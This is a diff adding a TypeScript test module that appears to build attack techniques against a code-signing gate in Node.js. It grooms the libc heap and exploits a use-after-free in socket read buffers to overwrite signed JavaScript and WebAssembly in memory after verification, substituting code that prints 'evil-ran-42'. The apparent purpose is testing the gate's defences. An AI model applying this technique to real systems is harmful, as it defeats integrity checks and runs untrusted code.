@@ -1,0 +1,111 @@
+/**
+ * These techniques change signed code in memory, after it was judged. They depend on where libc puts a block of memory, so
+ * each tries several times, and may fail all the same.
+ */
+
+import { DATA, type Technique } from "../technique.js";
+
+/** The module `(module (func (export "f") (result i32) i32.const 42))`. */
+const ANSWERS = Buffer.from("0061736d010000000105016000017f03020100070501016600000a06010400412a0b", "hex");
+
+const SIZE = 1_100_000;
+/** The first bytes stay as they are: libc keeps its lists there while nobody has the memory. */
+const UNWRITTEN = 64;
+/** A text that Node.js keeps outside of V8's heap, because it is long. V8 compiles its function when it is called. */
+const LONG = `${"//".padEnd(UNWRITTEN - 1, "-")}\n${`globalThis.f = function f() { return "`.padEnd(SIZE, "x")}"; }`;
+/**
+ * Node.js reads from a socket into the memory of a buffer, also after that memory has passed to another owner. There it
+ * is freed, and becomes the text that `compile` gets.
+ */
+const overwritten = (
+	file: string,
+	compile: string,
+	write: string,
+) => `${DATA}const fs = require("fs"), net = require("net"), vm = require("vm");
+process.chdir(data);
+require("v8").setFlagsFromString("--expose-gc");
+const gc = vm.runInNewContext(fs.readFileSync(__dirname + "/gc.js", "latin1"), {}, { filename: __dirname + "/gc.js" });
+const collect = () => { for (let i = 0; i < 4; i++) gc(); };
+const give = (memory) => void structuredClone(memory, { transfer: [memory] });
+const later = () => new Promise((done) => setTimeout(done, 100));
+const bytes = fs.readFileSync(__dirname + "/${file}"), count = 8;
+const rounds = async () => {
+  // After this libc maps no memory for blocks of this size, but takes them from its heap.
+  give(new ArrayBuffer(3e7));
+  collect();
+  globalThis.hasRun = false;
+  for (let round = 0; round < 6 && !globalThis.hasRun; round++) {
+    const peers = [], sockets = [], functions = [];
+    let buffers = [];
+    const server = net.createServer((socket) => peers.push(socket.on("error", () => {}))).listen("socket" + round);
+    for (let i = 0; i < count; i++) {
+      const buffer = Buffer.from(new ArrayBuffer(bytes.length), ${UNWRITTEN});
+      buffers.push(buffer.buffer);
+      sockets.push(net.connect({ path: "socket" + round, onread: { buffer, callback: () => true } }).on("error", () => {}));
+    }
+    await later();
+    for (const memory of buffers) give(memory);
+    buffers = undefined;
+    collect();
+    await later();
+    for (let i = 0; i < 2 * count; i++) { ${compile} }
+    for (const peer of peers) peer.write(${write});
+    await later();
+    for (const each of functions) try { each(); } catch {}
+    for (const socket of sockets) socket.destroy();
+    server.close();
+  }
+  process.exit();
+};
+rounds();
+`;
+const EVIL_FUNCTION = `"globalThis.f = function f() { globalThis.hasRun = true; process.getBuiltinModule('fs').writeSync(1, \`evil-ran-\${6 * 7}\\n\`); return \\""`;
+const changedText = (name: string, file: string, made: string): Technique => ({
+	name,
+	signed: {
+		"main.js": overwritten(
+			file,
+			`const text = bytes.toString("latin1");
+      new vm.Script(${made}, { filename: __dirname + "/long.js", lineOffset: round * 100 + i }).runInThisContext();
+      functions.push(f);`,
+			EVIL_FUNCTION,
+		),
+		"gc.js": "gc",
+		"long.js": LONG,
+		"longer.js": `${LONG};`,
+	},
+});
+export const changedTexts: readonly Technique[] = [
+	changedText("signed text whose memory changes after the judgement", "long.js", "text"),
+	changedText("part of a longer text whose memory changes after the judgement", "longer.js", "text.slice(0, -1)"),
+	changedText(
+		"name of a member whose memory changes after the judgement",
+		"long.js",
+		"Object.keys({ __proto__: null, [text]: 1 })[0]",
+	),
+];
+
+/** A module whose function returns 1, and which is as long as V8 needs to take memory of its own for it. */
+const LONG_MODULE = Buffer.concat([
+	ANSWERS.subarray(0, 8),
+	Buffer.from([0, UNWRITTEN - 10]),
+	Buffer.alloc(UNWRITTEN - 10),
+	ANSWERS.subarray(8, -2),
+	Buffer.from("010b0080c04300", "hex"),
+	Buffer.alloc(0x10e000 - 1),
+]);
+/** The native gate cannot hold this one: V8 keeps the bytes of a module in memory of libc, and compiles from them later. */
+export const changedWebAssembly: Technique = {
+	name: "signed WebAssembly whose memory changes after the judgement",
+	signed: {
+		"main.js": overwritten(
+			"long.wasm",
+			`const { exports } = new WebAssembly.Instance(new WebAssembly.Module(bytes));
+      functions.push(() => { const answer = exports.f(); console.log("evil-ran-" + answer); hasRun ||= answer === 42; });`,
+			`fs.readFileSync(data + "/evil.wasm").subarray(8)`,
+		),
+		"gc.js": "gc",
+		"long.wasm": LONG_MODULE,
+	},
+	beside: { "evil.wasm": ANSWERS },
+};
